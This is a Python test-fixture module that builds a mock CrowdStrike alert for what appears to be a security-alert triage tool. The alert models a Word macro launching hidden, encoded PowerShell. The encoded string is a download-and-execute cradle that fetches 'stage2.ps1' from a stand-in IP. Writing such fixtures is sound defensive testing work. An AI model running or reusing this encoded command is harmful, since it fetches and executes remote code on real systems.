"""Builders shared by the tools and guard tests: a realistic alert and a tool context around it."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import UTC, datetime
from typing import Any

from soctriage.service.config import Settings
from soctriage.service.domain import (
    Alert,
    Device,
    FileInfo,
    Network,
    Observable,
    ParentProcess,
    Process,
    Severity,
    Source,
    User,
)
from soctriage.tools import Connectors, ToolContext, ToolFacts

DROPPER_SHA256 = "7716d4101cb72bda8e24ed90202bdaa174636d4a3f0f005ae7f26df6be9a271c"
ENCODED = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0"
    "AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAHMAdABhAGcAZQAyAC4AcABzADEAJwApAA=="
)


def make_alert(hostname: str = "FIN-WS-042", username: str = "j.doe", **update: Any) -> Alert:
    alert = Alert(
        id="crowdstrike-test0001",
        source=Source(vendor="CrowdStrike", product="Falcon", format="crowdstrike", vendor_alert_id="ldt:1"),
        time=datetime(2025, 3, 4, 10, 0, tzinfo=UTC),
        severity=Severity.of(4),
        title="Encoded PowerShell launched by Word",
        device=Device(hostname=hostname, ip="10.20.4.42", os="Windows 11"),
        user=User(name=username, domain="CORP"),
        process=Process(
            name="powershell.exe",
            pid=4242,
            path="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            cmdline=f"powershell.exe -nop -w hidden -enc {ENCODED}",
            parent=ParentProcess(
                name="WINWORD.EXE",
                pid=1200,
                path="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                cmdline='"WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\invoice_8841.docm"',
            ),
        ),
        file=FileInfo(name="invoice_8841.docm", sha256=DROPPER_SHA256),
        network=Network(
            src_ip="10.20.4.42",
            dst_ip="203.0.113.66",
            dst_port=443,
            domain="cdn-update-check.example.org",
            url="http://198.51.100.23/stage2.ps1",
        ),
        observables=(Observable(type="ip", value="8.8.8.8"), Observable(type="domain", value="corp.example")),
        raw="{}",
    )
    return alert.model_copy(update=update) if update else alert


def make_ctx(
    alert: Alert | None = None,
    *,
    connectors: Connectors | None = None,
    settings: Settings | None = None,
    case_id: str = "case-1",
    tenant: str = "acme",
    dry_run: bool = False,
    results: Iterable[ToolFacts] = (),
) -> ToolContext:
    settings = settings or Settings()
    return ToolContext.for_alert(
        case_id,
        tenant,
        alert or make_alert(),
        settings,
        connectors or Connectors.from_settings(settings),
        dry_run=dry_run,
        results=results,
    )
